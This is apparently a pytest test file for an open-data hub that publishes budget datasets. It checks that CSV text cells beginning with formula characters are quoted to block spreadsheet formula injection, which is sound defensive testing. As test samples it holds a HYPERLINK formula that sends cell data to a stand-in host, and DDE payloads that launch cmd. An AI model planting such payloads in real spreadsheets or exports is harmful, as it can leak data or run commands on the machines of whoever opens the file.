"""Spreadsheet formula injection: a text cell of a published CSV that begins with ``=``, ``+``,
``-``, ``@``, a tab or a carriage return is prefixed with a single quote (OWASP), read back
from the published bytes; numbers, negative ones included, keep their value."""

from __future__ import annotations

import csv
import datetime as dt
import io
from pathlib import Path
from typing import Any

import pytest

from hub.app.wiring import Hub
from hub.audit.entry import CLI
from hub.ingest.batch import IngestMode, ingest_batch
from opendata.description import Bilingual
from opendata.files import csv_bytes, data_dictionary, table_csv
from opendata.portal_dataset import publication_files
from opendata.spreadsheet_cells import FORMULA_STARTS, spreadsheet_safe
from opendata.table import Column, Table

HYPERLINK = '=HYPERLINK("http://example.invalid/?d="&A1,"Bấm vào đây")'
DANGEROUS = {
    "=": HYPERLINK,
    "+": "+1+cmd|' /C calc'!A0",
    "-": "-2+3+cmd|' /C calc'!A0",
    "@": "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t": "\t=1+1",
    "\r": "\r=1+1",
}
HARMLESS = ["Cầu Mỹ Thuận", "", "1+1", "a=b", "'đã có nháy", "Ｈ=1"]


def _read(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))


def _table(texts: list[str], amounts: list[int | None]) -> Table:
    columns = (
        Column("name", "string", Bilingual("Tên", "Name")),
        Column("amount_vnd", "integer", Bilingual("Số tiền", "Amount"), nullable=True),
        Column("ratio", "number", Bilingual("Tỷ lệ", "Ratio")),
    )
    rows = [(t, a, -0.5) for t, a in zip(texts, amounts, strict=True)]
    return Table(columns, rows)


def test_the_rule_is_owasps_first_characters() -> None:
    """Exactly = + - @ TAB CR start a formula; the rule touches text only."""
    assert set(FORMULA_STARTS) == set(DANGEROUS)
    assert spreadsheet_safe(-1500) == -1500 and spreadsheet_safe(None) is None
    assert spreadsheet_safe(-0.5) == -0.5
    assert spreadsheet_safe("-5") == "'-5"


@pytest.mark.parametrize("first", sorted(DANGEROUS))
def test_a_text_cell_starting_a_formula_is_quoted_in_the_published_csv(first: str) -> None:
    """The CSV bytes, read back with the csv module, hold the text behind a single quote."""
    text = DANGEROUS[first]
    rows = _read(table_csv(_table([text], [-1500])))
    assert rows[1] == ["'" + text, "-1500", "-0.5"]


def test_harmless_text_and_negative_numbers_are_unchanged() -> None:
    """Ordinary text (with '=' inside, not first) and numbers are written as they are."""
    rows = _read(table_csv(_table(HARMLESS, [-7, 0, None, 12, -1, 3])))
    assert [r[0] for r in rows[1:]] == HARMLESS
    assert [r[1] for r in rows[1:]] == ["-7", "0", "", "12", "-1", "3"]


def test_generic_csv_and_the_data_dictionary_quote_formulas_too() -> None:
    """``csv_bytes`` (the data dictionary's writer) quotes text cells and headers alike."""
    rows = _read(csv_bytes(["=cột"], [[HYPERLINK], [-3]]))
    assert rows == [["'=cột"], ["'" + HYPERLINK], ["-3"]]
    column = Column("ghi_chu", "string", Bilingual(HYPERLINK, "@note"))
    (header, row) = _read(data_dictionary([column]))
    assert row[3:] == ["'" + HYPERLINK, "'@note"]


def test_published_files_are_csv_json_and_parquet_only() -> None:
    """No publication writes XLSX today; one added later must go through spreadsheet_safe
    (this test then fails and says so)."""
    files = publication_files("x", _table(["a"], [1]))
    assert {f.media_type for f in files} <= {
        "text/csv",
        "application/json",
        "application/vnd.apache.parquet",
    }, "a new file type: make its text cells go through opendata.spreadsheet_cells"


def _project(code: str, name: str, investor: str) -> dict[str, Any]:
    return {
        "project_code": code,
        "project_name": name,
        "investor_name": investor,
        "capital_source": "provincial_budget",
        "commune_code": None,
        "budget_year": 2025,
        "reported_on": (dt.date.today() - dt.timedelta(days=3)).isoformat(),
        "allocated_vnd": 5_000_000_000,
        "disbursed_vnd": 1_250_000_000,
        "key_project": False,
    }


def test_formulas_ingested_into_an_open_dataset_are_quoted_in_its_portal_csv(
    embedded_hub: Hub, tmp_path: Path
) -> None:
    """End to end: records with formulas in their text fields, published on the folder portal;
    the CSV the portal serves holds each of them quoted, and the amounts as numbers."""
    documents = [
        _project(f"DA-{i:03d}", text, "@Ban QLDA " + first)
        for i, (first, text) in enumerate(sorted(DANGEROUS.items()))
    ]
    documents[0]["project_code"] = "-DA-000"
    result = ingest_batch(
        embedded_hub.writer("finance.budget_disbursement"),
        documents,
        mode=IngestMode.ATOMIC,
        source_name="so-tc",
    )
    assert not result.refused, result.as_dict()
    (published,) = embedded_hub.publisher().run(CLI, only=["finance.budget_disbursement"])
    assert published.status == "published", published.reason
    (path,) = Path(published.location).glob("finance-budget-disbursement.csv")
    rows = list(csv.DictReader(io.StringIO(path.read_bytes().decode("utf-8-sig"), newline="")))
    by_name = {r["project_name"]: r for r in rows}
    assert set(by_name) == {"'" + d["project_name"] for d in documents}
    assert {r["investor_name"][:2] for r in rows} == {"'@"}
    assert "'-DA-000" in {r["project_code"] for r in rows}
    assert {r["disbursed_vnd"] for r in rows} == {"1250000000"}
